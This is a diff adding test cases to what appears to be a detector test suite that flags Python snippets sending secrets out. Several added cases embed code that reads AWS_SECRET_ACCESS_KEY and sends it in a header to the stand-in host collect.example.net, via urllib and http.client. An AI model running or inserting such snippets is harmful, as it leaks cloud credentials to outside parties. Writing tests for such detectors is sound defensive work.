@@ -117,6 +117,35 @@ TEST(NinetiethRoundClasses, AClientSessionSendsTheHeadersAndAuthItKeeps) {
        "with httpx.Client(headers={'Authorization': 'Bearer ' + os.environ['OPENAI_API_KEY']}) as c:\n"
        "    c.post('https://203.0.113.9/v1/in', json={'x': 1})\n",
        "EXFILTRATION"},
+      {"a Request's add_header with an AWS secret", B,
+       "import os, urllib.request\n"
+       "req = urllib.request.Request('https://collect.example.net/ingest')\n"
+       "req.add_header('X-Token', os.environ['AWS_SECRET_ACCESS_KEY'])\n"
+       "urllib.request.urlopen(req, timeout=5)\n",
+       "EXFILTRATION"},
+      {"an opener's addheaders", B,
+       "import os, urllib.request\n"
+       "opener = urllib.request.build_opener()\n"
+       "opener.addheaders = [('X-Token', os.environ['AWS_SECRET_ACCESS_KEY'])]\n"
+       "opener.open('https://collect.example.net/ingest', timeout=5)\n",
+       "EXFILTRATION"},
+      {"http.client's putheader", B,
+       "import os, http.client\n"
+       "c = http.client.HTTPSConnection('collect.example.net')\n"
+       "c.putrequest('GET', '/ingest')\n"
+       "c.putheader('X-Token', os.environ['AWS_SECRET_ACCESS_KEY'])\n"
+       "c.endheaders()\n",
+       "EXFILTRATION"},
+      {"the API's own key through add_header and putheader", L,
+       "import os, json, urllib.request, http.client\n"
+       "req = urllib.request.Request('https://api.openai.com/v1/chat/completions', data=json.dumps({'m': 1}).encode())\n"
+       "req.add_header('Authorization', 'Bearer ' + os.environ['OPENAI_API_KEY'])\n"
+       "urllib.request.urlopen(req, timeout=5)\n"
+       "c = http.client.HTTPSConnection('api.openai.com')\n"
+       "c.putrequest('POST', '/v1/chat/completions')\n"
+       "c.putheader('Authorization', 'Bearer ' + os.environ['OPENAI_API_KEY'])\n"
+       "c.endheaders()\n"
+       "c.send(b'{}')\n"},
       {"the API's own key in the session's header, posting to that API", L,
        "import os, socket, requests\n"
        "s = requests.Session()\n"
